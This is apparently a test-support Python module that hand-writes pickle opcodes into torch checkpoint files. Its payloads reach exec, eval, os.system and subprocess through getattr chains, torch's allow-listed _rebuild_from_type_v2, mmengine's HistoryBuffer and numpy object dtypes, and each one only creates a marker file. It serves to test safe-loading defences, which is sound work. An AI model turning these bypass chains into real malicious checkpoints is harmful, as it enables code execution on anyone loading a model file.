"""Hostile checkpoint files: pickles written opcode by opcode into torch's zip format.

Each payload, if anything ran it, would create its marker file (``touch`` through ``exec``,
``eval``, ``os.system``, ...), so a test only has to look for the marker afterwards.
"""
import struct
import types
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable, Dict, List, Tuple

import torch

# --- a small protocol-2 pickle writer -------------------------------------------------------


@dataclass(frozen=True)
class Global:
    """``GLOBAL module name`` (the dotted name is split at its last dot)."""
    dotted: str


@dataclass(frozen=True)
class Call:
    """``func(*args)`` through the REDUCE opcode."""
    func: Any
    args: Tuple = ()


@dataclass(frozen=True)
class NewObj:
    """``cls.__new__(cls, *args)`` through the NEWOBJ opcode."""
    cls: Any
    args: Tuple = ()


@dataclass(frozen=True)
class Build:
    """``obj`` given ``state`` through the BUILD opcode."""
    obj: Any
    state: Any


@dataclass(frozen=True)
class Raw:
    """Bytes, written as ``_codecs.encode(text, 'latin1')`` as pickle protocol 2 does."""
    data: bytes


@dataclass
class Memo:
    """The same object twice: the first use is memoised (BINPUT), later ones fetched (BINGET)."""
    value: Any
    slot: int = field(default=-1)


def _write(node, out: List[bytes], memo: Dict[int, int]) -> None:
    if isinstance(node, Memo):
        if id(node) in memo:
            out.append(b'h' + bytes([memo[id(node)]]))
            return
        _write(node.value, out, memo)
        memo[id(node)] = len(memo)
        out.append(b'q' + bytes([memo[id(node)]]))
    elif node is None:
        out.append(b'N')
    elif node is True or node is False:
        out.append(b'\x88' if node else b'\x89')
    elif isinstance(node, int):
        out.append(b'J' + struct.pack('<i', node))
    elif isinstance(node, float):
        out.append(b'G' + struct.pack('>d', node))
    elif isinstance(node, str):
        data = node.encode('utf-8')
        out.append(b'X' + struct.pack('<I', len(data)) + data)
    elif isinstance(node, Raw):
        _write(Call(Global('_codecs.encode'), (node.data.decode('latin1'), 'latin1')), out, memo)
    elif isinstance(node, Global):
        module, name = node.dotted.rsplit('.', 1)
        out.append(b'c' + module.encode() + b'\n' + name.encode() + b'\n')
    elif isinstance(node, (Call, NewObj)):
        _write(node.func if isinstance(node, Call) else node.cls, out, memo)
        _write(tuple(node.args), out, memo)
        out.append(b'R' if isinstance(node, Call) else b'\x81')
    elif isinstance(node, Build):
        _write(node.obj, out, memo)
        _write(node.state, out, memo)
        out.append(b'b')
    elif isinstance(node, tuple):
        if not node:
            out.append(b')')
            return
        out.append(b'(')
        for item in node:
            _write(item, out, memo)
        out.append(b't')
    elif isinstance(node, list):
        out.append(b']')
        if node:
            out.append(b'(')
            for item in node:
                _write(item, out, memo)
            out.append(b'e')
    elif isinstance(node, dict):
        out.append(b'}')
        if node:
            out.append(b'(')
            for key, value in node.items():
                _write(key, out, memo)
                _write(value, out, memo)
            out.append(b'u')
    else:
        raise TypeError(f'cannot write {type(node).__name__}')


def pickle_bytes(node) -> bytes:
    out = [b'\x80\x02']
    _write(node, out, {})
    out.append(b'.')
    return b''.join(out)


class _RawPickler:
    """Lets ``torch.save`` wrap already-written pickle bytes in its zip format."""

    def __init__(self, file, protocol=None):
        self.file = file

    def dump(self, data):
        self.file.write(data)


_RAW_MODULE = types.ModuleType('raw_pickle')
_RAW_MODULE.Pickler = _RawPickler


def save_payload(node, path: Path) -> Path:
    torch.save(pickle_bytes(node), path, pickle_module=_RAW_MODULE)
    return path


# --- the payloads ---------------------------------------------------------------------------

GETATTR = Global('builtins.getattr')
REBUILD = Global('torch._tensor._rebuild_from_type_v2')
TENSOR = Global('torch.Tensor')
HISTORY = Global('mmengine.logging.history_buffer.HistoryBuffer')
NP_DTYPE = Global('numpy.dtype')
NP_NDARRAY = Global('numpy.ndarray')
NP_RECONSTRUCT = Global('numpy.core.multiarray._reconstruct')
NP_SCALAR = Global('numpy.core.multiarray.scalar')


def touch_code(marker: Path) -> str:
    """Python source (an expression, so exec and eval both run it) that creates ``marker``."""
    return f"__import__('pathlib').Path({str(marker)!r}).touch()"


def _via_rebuild(func, marker):
    # torch's own allow-list holds _rebuild_from_type_v2, which calls its first argument.
    return Call(REBUILD, (func, TENSOR, (touch_code(marker), ), {}))


def _builtins():
    return Call(GETATTR, (GETATTR, '__self__'))


def _numpy_array(dtype_code, dtype_state, data, shape=(1, )):
    dtype = Build(Call(NP_DTYPE, (dtype_code, False, True)), dtype_state)
    return Build(Call(NP_RECONSTRUCT, (NP_NDARRAY, (0, ), Raw(b'b'))),
                 (1, shape, dtype, False, data))


PLAIN_DTYPE_STATE = (3, '<', None, None, None, -1, -1, 0)


def attack_payloads(marker: Path) -> Dict[str, Callable[[], Any]]:
    """Name -> payload node; each creates ``marker`` if anything runs it."""
    exec_fn = Call(GETATTR, (_builtins(), 'exec'))
    eval_fn = Call(GETATTR, (_builtins(), 'eval'))
    shell = f'touch {marker}'
    history = NewObj(HISTORY)
    return {
        # getattr(getattr, '__self__') is the builtins module; its exec called by torch's
        # allow-listed _rebuild_from_type_v2.
        'getattr chain -> exec via _rebuild_from_type_v2': _via_rebuild(exec_fn, marker),
        'getattr chain -> eval via _rebuild_from_type_v2': _via_rebuild(eval_fn, marker),
        'getattr chain -> exec via REDUCE': Call(exec_fn, (touch_code(marker), )),
        '__reduce__ -> os.system': Call(Global('os.system'), (shell, )),
        '__reduce__ -> posix.system': Call(Global('posix.system'), (shell, )),
        '__reduce__ -> subprocess.call': Call(Global('subprocess.call'),
                                              (['touch', str(marker)], )),
        '__reduce__ -> builtins.exec': Call(Global('builtins.exec'), (touch_code(marker), )),
        'getattr(HistoryBuffer, __init__) -> globals': _via_rebuild(
            Call(GETATTR, (Call(GETATTR, (HISTORY, '__init__')), '__globals__')), marker),
        'getattr(HistoryBuffer, statistics)': _via_rebuild(
            Call(GETATTR, (HISTORY, 'statistics')), marker),
        'HistoryBuffer state registers _rebuild_from_type_v2': Build(history, {
            'max_length': 10, '_log_history': _numpy_array('f8', PLAIN_DTYPE_STATE, Raw(bytes(8))),
            '_count_history': _numpy_array('i8', PLAIN_DTYPE_STATE, Raw(bytes(8))),
            'statistics_methods': {'mean': REBUILD}}),
        'numpy object array holding the exec chain': _numpy_array(
            'O', (3, '|', None, None, None, -1, -1, 63), [_via_rebuild(exec_fn, marker)]),
        'numpy float dtype with object flags (raw pointers)': _numpy_array(
            'f8', (3, '<', None, None, None, -1, -1, 63), Raw(bytes(8))),
        'numpy.ndarray((1,), "O") called': Call(NP_NDARRAY, ((1, ), 'O')),
        'numpy scalar of object dtype': Call(NP_SCALAR, (
            Build(Call(NP_DTYPE, ('O', False, True)), (3, '|', None, None, None, -1, -1, 63)),
            _via_rebuild(exec_fn, marker))),
        'torch.load inside the pickle': Call(Global('torch.load'), (str(marker), )),
    }


def allow_list_probes(allowed: Dict[str, Any], marker: Path) -> Dict[str, Any]:
    """For every callable on an allow-list: called with code, called by _rebuild_from_type_v2
    with code, and used as a stand-in for getattr in the exec chain."""
    probes = {}
    for name, obj in sorted(allowed.items()):
        if not callable(obj):
            continue
        c = Global(name)
        probes[f'{name}(code)'] = Call(c, (touch_code(marker), ))
        probes[f'_rebuild_from_type_v2({name}, code)'] = _via_rebuild(c, marker)
        reached = Call(c, (Call(c, (c, '__self__')), 'exec'))
        probes[f'{name} as getattr -> exec'] = _via_rebuild(reached, marker)
        probes[f'{name}(...) as getattr on getattr'] = _via_rebuild(
            Call(c, (Call(GETATTR, (GETATTR, '__self__')), 'exec')), marker)
    return probes


def placements(node) -> Dict[str, Any]:
    """The payload as the whole checkpoint, and inside ``state_dict`` of an mmengine-like one."""
    return {'top level': node,
            'in state_dict': {'meta': {'iter': 2}, 'state_dict': {'backbone.conv.weight': node}}}
